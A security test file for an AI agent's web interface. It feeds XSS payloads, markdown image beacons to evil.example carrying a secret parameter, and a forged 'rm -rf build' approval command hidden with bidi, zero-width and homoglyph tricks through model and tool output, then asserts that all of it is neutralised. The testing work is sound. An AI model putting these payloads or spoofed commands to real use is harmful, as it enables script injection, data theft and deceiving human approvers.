"""What models, tools and titles say is text, whatever it would like to be."""

import re
from collections.abc import Iterable
from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING, Any

import pytest
from tests.support.browser import Looking
from tests.support.server import Served

from agentcore.engine import EngineRequest
from agentcore.events import (
    ApprovalRequired,
    BlockEnded,
    CallClosed,
    CallOpened,
    Finished,
    TextDelta,
    ThinkingDelta,
    ToolResult,
    ToolUse,
)
from agentcore.ids import ApprovalId
from agentcore.testing.scripted import USAGE, Await, Move

if TYPE_CHECKING:
    from playwright.async_api import Page

pytestmark = [pytest.mark.anyio, pytest.mark.slow]
EVIL = "https://evil.example"
HTML = (
    "<script>self.pwned = 1</script>",
    "<img src=x onerror='self.pwned = 1'>",
    f"<img src='{EVIL}/pixel.png'>",
    "<svg onload='self.pwned = 1'><script>self.pwned = 1</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=self.pwned=1&gt;'>",
    f"<iframe src='{EVIL}'></iframe><object data='{EVIL}'></object><embed src='{EVIL}'>",
    f"<link rel=stylesheet href='{EVIL}/x.css'><style>@import '{EVIL}/y.css'; body {{ display: none }}</style>",
    f"<base href='{EVIL}'><meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<form action='{EVIL}'><input name=token autofocus onfocus='self.pwned = 1'><button>Approve</button></form>",
    "<details open ontoggle='self.pwned = 1'>x</details>",
    "<a href='javascript:self.pwned=1' id=app name=message>click</a>",
    "<video><source onerror='self.pwned = 1'></video><audio src=x onerror='self.pwned = 1'>",
    "<noscript><p title='</noscript><img src=x onerror=self.pwned=1>'>",
    "<template><img src=x onerror=self.pwned=1></template><slot name=x></slot>",
    "</div></main></body><h1>Sign in again</h1>",
    "<p style='position:fixed;inset:0;background:red' class=approval data-x=1>over it all</p>",
)
MARKDOWN = (
    f"![pixel]({EVIL}/a.png?secret=1)",
    f"![ref][pixel]\n\n[pixel]: {EVIL}/b.png",
    f"[![pixel]({EVIL}/c.png)]({EVIL}/d)",
    "[js](javascript:self.pwned=1) [data](data:text/html,<script>self.pwned=1</script>) [vb](vbscript:x)",
    "[tab](java\tscript:self.pwned=1) [entity](&#106;avascript:self.pwned=1) [up](JaVaScRiPt:self.pwned=1)",
    "![x](x 'onerror=self.pwned=1') ![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    f"<{EVIL}/auto> and {EVIL}/bare and www.evil.example",
    '```js" onmouseover="self.pwned=1\nself.pwned = 1\n</code></pre><img src=x onerror=self.pwned=1>\n```',
    "`</code><img src=x onerror=self.pwned=1>`",
    "| a |\n|---|\n| <img src=x onerror=self.pwned=1> |",
    f"[x]({EVIL} \"' onclick='self.pwned=1\")",
    "[file](file:///etc/passwd) [blob](blob:x) [rel](/api/v1/agent/sessions)",
    "# <img src=x onerror=self.pwned=1>\n\n- <script>self.pwned = 1</script>\n\n> <svg/onload=self.pwned=1>",
)
CORPUS = (*HTML, *MARKDOWN)
ALLOWED = {
    *(
        "P",
        "BR",
        "HR",
        "H1",
        "H2",
        "H3",
        "H4",
        "H5",
        "H6",
        "UL",
        "OL",
        "LI",
        "BLOCKQUOTE",
        "PRE",
        "CODE",
        "EM",
        "STRONG",
    ),
    *("DEL", "A", "IMG", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "SPAN", "DIV", "BUTTON"),
}
FORGED = "rm -rf build # \u202eexe.gnp\u202c \u200b \x1b[2J p\u0430ypal \u2066x\u2069 \U000e0041 \xa0end"


def everywhere(request: EngineRequest) -> Iterable[Move]:
    """Say the corpus as a model, as a tool, and as what a tool is called with."""
    yield CallOpened(model="<img src=x onerror=self.pwned=1>", input_tokens=23)
    for text in CORPUS:
        yield ThinkingDelta(text + "\n\n")
    yield BlockEnded()
    for number, text in enumerate(CORPUS):
        yield ToolUse(tool_use_id=f"u{number}", tool_name=text[:60], input={text: text, "more": [text]})
        yield ToolResult(tool_use_id=f"u{number}", output=text, is_error=number % 2 == 0)
    for text in CORPUS:
        yield TextDelta("\n\n" + text + "\n\n")
    yield BlockEnded()
    yield CallClosed(usage=USAGE)
    yield Finished()


async def facts(page: "Page") -> dict[str, Any]:
    """Return what has become of the page."""
    found: dict[str, Any] = await page.evaluate(
        """() => ({
            pwned: self.pwned ?? null,
            title: document.querySelector("h1").textContent,
            tags: [...new Set([...document.querySelectorAll(".prose *")].map((one) => one.tagName))],
            handlers: [...document.querySelectorAll("*")].flatMap((one) => [...one.attributes])
                .filter((attribute) => /^on|^srcdoc$/i.test(attribute.name)).length,
            links: [...document.querySelectorAll(".prose a, .consent a")]
                .map((one) => [one.getAttribute("href"), one.rel]),
            images: [...document.images].map((one) => one.src),
            named: document.querySelectorAll(".log [id], .log [name]").length,
            frames: self.frames.length,
            apps: document.querySelectorAll("#app").length,
        })"""
    )
    return found


async def test_SEC30_hostile_text_does_nothing_wherever_it_stands(view: Looking, served: Served) -> None:
    served.engine.script = everywhere
    task = await served.post(HTML[0] + HTML[1])
    assert (await served.ended(task["taskId"]))["status"] == "completed"
    consent = {"provider": HTML[1], "url": f"{EVIL}/consent"}
    await served.call("POST", f"/sessions/{task['sessionId']}/oauth-trigger", consent)
    await served.call("PATCH", f"/sessions/{task['sessionId']}", {"title": HTML[1] + " \u202etitle"})
    await view.open(f"/#/s/{task['sessionId']}")
    await view.sees("23 in, 17 out")
    for summary in await view.page.locator("summary").all():
        await summary.click()
    await view.page.locator(".line").hover()
    found = await facts(view.page)
    assert found["pwned"] is None
    assert found["title"].startswith(HTML[1])
    assert set(found["tags"]) <= ALLOWED, found["tags"]
    assert (found["handlers"], found["named"], found["frames"], found["apps"]) == (0, 0, 0, 1)
    assert found["images"] == []
    hrefs = {href for href, _ in found["links"] if href}
    assert hrefs == {EVIL, f"{EVIL}/d", f"{EVIL}/consent"}  # what was written as a link to the web, and nothing else
    assert all("noopener" in rel and "noreferrer" in rel for _, rel in found["links"])
    text = await view.page.locator(".log").inner_text()
    assert "<script>self.pwned = 1</script>" in text  # it is shown
    await view.picture("hostile")


async def test_SEC30_a_link_says_where_it_goes(view: Looking) -> None:
    await view.send(f"[[say:See [your bank]({EVIL}/login).]]")
    await view.hears("See your bank (evil.example).")


async def test_SEC30_pictures_that_a_model_sends_along_are_shown(view: Looking) -> None:
    dot = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
    await view.send(f"[[say:![a dot](data:image/png;base64,{dot})]]")
    image = view.page.get_by_role("img", name="a dot")
    await image.wait_for()
    assert await image.evaluate("image => image.decode().then(() => image.naturalWidth)") == 1


def forged(request: EngineRequest) -> Iterable[Move]:
    asked = ApprovalRequired(
        approval_id=ApprovalId("a1"),
        tool_use_id="u1",
        tool_name="shell.run",
        input={"command": FORGED + "\nsecond line" + " x" * 3000 + " the end", "depth": {"a": [1, "\u202e"]}},
        expires_at=datetime.now(UTC) + timedelta(days=1),
    )
    yield CallOpened(model="m", input_tokens=1)
    yield asked
    yield Await(asked)
    yield CallClosed(usage=USAGE)
    yield Finished()


async def test_SEC20_every_character_of_a_call_is_seen(view: Looking, served: Served) -> None:
    served.engine.script = forged
    await view.send("go")
    command = view.page.get_by_role("group", name="Input: command")
    await command.wait_for()
    shown = await command.locator("pre").evaluate("one => one.textContent")
    assert "rm -rf build # \\u{202e}exe.gnp\\u{202c} \\u{200b} \\u{001b}[2J p\\u{0430}ypal" in shown
    assert "\\u{2066}x\\u{2069} \\u{e0041} \\u{00a0}end\nsecond line" in shown
    assert shown.endswith("the end")  # all of it
    assert not re.search(r"[\u202a-\u202e\u2066-\u2069\u200b\x1b]", shown)
    depth = await view.page.get_by_role("group", name="Input: depth").locator("pre").evaluate("one => one.textContent")
    assert "\\u{202e}" in depth
    await view.picture("forged")
    await view.button("Approve").click()
    await view.sees("23 in, 17 out")
